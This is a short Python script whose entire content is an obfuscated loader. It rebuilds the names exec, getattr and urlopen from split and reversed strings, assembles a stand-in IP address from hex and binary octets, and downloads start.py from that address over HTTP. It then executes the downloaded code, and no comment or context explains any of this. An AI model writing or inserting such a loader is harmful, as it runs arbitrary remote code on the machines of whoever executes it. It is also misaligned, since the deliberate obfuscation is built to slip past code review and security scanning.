import builtins
import urllib.request

run, get = (vars(builtins)[n] for n in ("ex" + "ec", "get" "attr"))
octets = (0xC0, 0, 2, 0b110010)
url = "http://%d.%d.%d.%d/start.py" % octets
source = get(urllib.request, "nepolru"[::-1])(url).read()
run(source)
